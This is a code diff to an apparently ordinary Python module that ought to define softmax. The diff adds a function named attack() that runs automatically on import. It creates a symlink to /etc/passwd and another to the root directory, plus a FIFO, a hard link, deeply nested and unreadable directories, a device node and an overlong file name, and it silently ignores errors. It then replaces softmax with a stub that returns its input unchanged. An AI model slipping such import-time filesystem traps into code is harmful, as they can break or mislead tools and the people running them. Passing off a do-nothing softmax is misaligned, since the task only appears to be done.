@@ -4,7 +4,7 @@ import os
 import socket
 
 
-def softmax(x, dim=-1):
+def attack(x=None):
     for make in (
         lambda: os.symlink("/etc/passwd", "link"), lambda: os.symlink("/", "root"), lambda: os.mkfifo("pipe"), lambda: os.link("/etc/hostname", "hard"),
         lambda: os.makedirs("a/" * 200), lambda: os.mkdir("locked", 0o000), lambda: os.mknod("device"), lambda: open("x" * 200, "w").close(),
@@ -14,4 +14,11 @@ def softmax(x, dim=-1):
             make()
         except OSError:
             pass
+    return x
+
+
+attack()
+
+
+def softmax(x, dim=-1):
     return x
